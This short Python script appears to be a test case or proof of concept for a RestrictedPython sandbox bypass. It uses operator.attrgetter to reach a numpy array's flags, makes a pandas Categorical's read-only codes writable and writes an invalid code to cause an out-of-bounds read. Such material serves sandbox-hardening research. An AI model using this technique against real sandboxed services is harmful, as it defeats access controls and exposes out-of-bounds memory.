# source: RestrictedPython pull 330 (operator.attrgetter as a getattr) and numpy ndarray.flags (a flags object whose writeable field makes an array a library keeps writable)
# family: operator.attrgetter with a literal name that a rule judges by use (a.flags only read)
# goal: the flags of a Categorical's codes made writable through the object attrgetter hands back, then a code past the categories -> out-of-bounds read
import json
from operator import attrgetter

import pandas as pd

c = pd.Categorical(["a", "b", "a"])
v = c.codes
fl = attrgetter("flags")(v)
fl["WRITEABLE"] = True
v[0] = 100
print(json.dumps({"value": str(list(c))[:40]}))
